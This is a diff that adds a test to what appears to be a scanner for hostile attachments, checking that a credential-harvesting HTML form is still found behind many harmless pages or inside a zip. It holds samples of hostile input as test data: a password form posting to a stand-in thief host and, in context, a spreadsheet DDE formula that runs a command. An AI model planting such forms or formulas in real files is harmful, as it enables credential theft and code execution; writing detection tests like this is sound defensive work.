@@ -52,6 +52,15 @@ def test_tables_that_reach_out_hide_no_command():
     assert "office.dde" in found([*tables, ("last.csv", b"a,b\r\n=cmd|'/c calc'!A0,1\r\n")])
 
 
+def test_pages_in_front_hide_none_behind_them():
+    pages = [(f"{number}.html", b"<html><body><p>Minutes of Thursday</p></body></html>") for number in range(60)]
+    form = ("last.html", b"<html><form action='https://thief.example/'><input type=password name=p></form></html>")
+    assert "html.credential-form" in found([*pages[:40], form])
+    assert "html.limit" not in found([*pages[:40], form])
+    assert "html.limit" in found([*pages, form]), "what is not looked at is not delivered"
+    assert "html.credential-form" in found([("pages.zip", packed([*pages, form]))])
+
+
 @pytest.mark.parametrize("number", [1, 4, 5, 100])
 def test_of_each_kind_a_few_are_told(number: int):
     findings = [Finding("tested.a")] * number + [Finding("tested.b")]
